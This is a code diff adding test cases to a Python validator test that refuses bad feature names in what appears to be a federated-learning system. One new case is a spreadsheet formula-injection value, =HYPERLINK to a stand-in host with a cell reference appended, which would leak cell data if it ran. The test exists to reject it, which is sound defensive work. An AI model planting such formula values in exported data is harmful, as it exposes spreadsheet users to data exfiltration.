@@ -103,8 +103,10 @@ def leave(fed: InProcessFederation, *senders: bytes) -> None:
         (("bias", "V1"), "'bias' is the model's intercept"),
         (("V1", "V1"), "appears twice"),
         (("V1\x01",), "control character"),
+        (("V1", '=HYPERLINK("https://x.example/?"&A2)'), "would run as a formula"),
+        (("@SUM(A1)",), "starts with '@'"),
     ],
-    ids=["bias", "duplicate", "control-character"],
+    ids=["bias", "duplicate", "control-character", "formula", "at-formula"],
 )
 def test_a_first_hello_whose_features_cannot_name_a_model_is_refused(
     tmp_path: Path, features: tuple[str, ...], reason: str
